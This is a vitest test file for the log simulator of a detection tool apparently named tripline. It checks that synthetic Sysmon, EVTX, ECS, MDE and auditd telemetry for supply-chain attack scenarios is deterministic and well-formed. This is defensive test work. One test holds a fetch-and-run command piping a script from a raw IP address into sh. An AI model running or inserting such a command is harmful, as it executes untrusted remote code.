/** The simulator: deterministic per seed, well-formed in every format, readable by tripline's own readers. */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import {
  FORMATS,
  type FormatName,
  renderEvents,
  resolveScenarios,
  SCENARIOS,
  type SimEvent,
  simulate,
} from '../../src/simulate/index.js';
import { readAuditdEvents } from '../../src/sources/auditd.js';
import { parseAuditLine } from '../../src/sources/auditd-parse.js';
import type { LogEvent } from '../../src/sources/event.js';
import { readEvtx } from '../../src/sources/evtx/index.js';
import { readJsonLines } from '../../src/sources/json.js';
import { makeSink } from '../../src/sources/sink.js';

const formats = Object.keys(FORMATS) as FormatName[];
const bytes = (d: string | Uint8Array) => (typeof d === 'string' ? Buffer.from(d) : Buffer.from(d));
const run = (id: string, seed: number, background = 0) => simulate(resolveScenarios(id), { seed, background });

describe('determinism', () => {
  it.each(SCENARIOS.map((s) => [s.id] as const))('%s: same bytes for a seed, different for another', (id) => {
    const a = run(id, 11);
    const b = run(id, 11);
    const c = run(id, 12);
    for (const f of formats) {
      const rendered = renderEvents(a, f);
      const ra = bytes(rendered.data);
      expect(ra.equals(bytes(renderEvents(b, f).data)), f).toBe(true);
      // A format that has no form for this platform writes the same empty output for every seed.
      if (rendered.omitted < a.length) expect(ra.equals(bytes(renderEvents(c, f).data)), f).toBe(false);
    }
  });

  it('background instances are deterministic and all benign', () => {
    const a = run('all', 5, 40);
    expect(JSON.stringify(a)).toEqual(JSON.stringify(run('all', 5, 40)));
    const bg = simulate([], { seed: 5, background: 40 });
    const benign = new Set(SCENARIOS.filter((s) => s.kind === 'benign').map((s) => s.id));
    for (const e of bg) expect(benign).toContain(e.scenario);
  });
});

describe('targets', () => {
  it.each([
    ['1', ['atomic-1-trojanized-setup-powershell']],
    ['test3', ['atomic-3-python-setup-id']],
    ['attack-3cx-desktopapp', ['attack-3cx-desktopapp']],
  ])('%s', (target, ids) => expect(resolveScenarios(target).map((s) => s.id)).toEqual(ids));
  it('a technique selects its attack scenarios and sub-techniques', () => {
    const ids = resolveScenarios('T1195').map((s) => s.id);
    expect(ids).toContain('attack-firmware-flash-tool');
    expect(ids).toContain('atomic-2-npm-postinstall-cmd');
    expect(ids.some((i) => i.startsWith('fp-'))).toBe(false);
  });
});

const all = run('all', 3, 20);
const dir = mkdtempSync(path.join(tmpdir(), 'tripline-sim-'));
async function read(format: FormatName, events: readonly SimEvent[]): Promise<LogEvent[]> {
  const file = path.join(dir, `${format}.out`);
  writeFileSync(file, renderEvents(events, format).data);
  const skipped: string[] = [];
  const sink = makeSink((s) => skipped.push(s.reason));
  const out: LogEvent[] = [];
  const source = format === 'auditd' ? readAuditdEvents(file, sink) : readJsonLines(file, sink);
  for await (const e of source) out.push(e);
  expect(skipped).toEqual([]);
  return out;
}

describe('formats are well-formed and readable', () => {
  it.each(['sysmon-jsonl', 'evtx-json', 'mde', 'ecs'] as const)(
    '%s: every line is JSON and maps to a categorised event',
    async (f) => {
      const text = renderEvents(all, f).data as string;
      for (const line of text.trimEnd().split('\n')) expect(() => JSON.parse(line)).not.toThrow();
      const events = await read(f, all);
      expect(events.length).toBe(text.trimEnd().split('\n').length);
      for (const e of events) expect(e.logsource.category, JSON.stringify(e.fields).slice(0, 200)).toBeDefined();
      const proc = events.find((e) => e.logsource.category === 'process_creation' && e.logsource.product === 'windows');
      expect(proc?.fields.Image).toMatch(/\\/);
      expect(proc?.fields.ParentImage).toBeDefined();
    },
  );

  it('sysmon-xml is well-formed XML with one Event per Windows record', () => {
    const xml = renderEvents(all, 'sysmon-xml').data as string;
    const parser = new SaxesParser({ xmlns: true });
    let events = 0;
    parser.on('opentag', (t) => {
      if (t.local === 'Event') events += 1;
    });
    parser.write(xml).close();
    expect(events).toBe((renderEvents(all, 'evtx-json').data as string).trimEnd().split('\n').length);
  });

  it('sysmon-evtx reads back with the same events as evtx-json', () => {
    const evtx = renderEvents(all, 'sysmon-evtx');
    expect(evtx.problems).toEqual([]);
    const { records, problems } = readEvtx(evtx.data as Uint8Array);
    expect(problems).toEqual([]);
    const json = (renderEvents(all, 'evtx-json').data as string)
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(records.length).toBe(json.length);
    expect(records[0].event.Event.EventData).toEqual(json[0].Event.EventData);
  });

  it('auditd lines parse and group as SYSCALL, EXECVE, CWD, PATH, PATH, PROCTITLE, EOE per execve', async () => {
    const text = renderEvents(all, 'auditd').data as string;
    const groups = new Map<string, string[]>();
    for (const line of text.trimEnd().split('\n')) {
      const r = parseAuditLine(line);
      if ('skip' in r) throw new Error(`${r.skip}: ${line}`);
      const key = `${r.node ?? ''}|${r.time}:${r.serial}`;
      groups.set(key, [...(groups.get(key) ?? []), r.type]);
    }
    const execs = [...groups.values()].filter((g) => g[0] === 'SYSCALL' && g[1] === 'EXECVE');
    expect(execs.length).toBeGreaterThan(3);
    for (const g of execs) expect(g).toEqual(['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PATH', 'PROCTITLE', 'EOE']);
    const events = await read('auditd', all);
    const id = events.find((e) => e.logsource.category === 'process_creation' && e.fields.Image === '/usr/bin/id');
    expect(id?.fields.ParentImage).toBe('/usr/bin/python3.11');
    expect(id?.fields.ParentCommandLine).toBe('python3 setup.py install');
  });

  it('auditd hex-encodes arguments with spaces and splits long ones', () => {
    const sh = run('attack-pip-sdist-curl', 1);
    const text = renderEvents(sh, 'auditd').data as string;
    expect(text).toContain(
      `a2=${Buffer.from('curl -fsSL http://45.61.136.47/x.sh | sh').toString('hex').toUpperCase()}`,
    );
  });

  it('atomic test 1 yields Sysmon 1 and 11 and Security 4688', () => {
    const lines = (renderEvents(run('1', 1), 'sysmon-jsonl').data as string)
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.map((l) => l.EventID).sort()).toEqual([1, 1, 11, 4688, 4688]);
  });
});
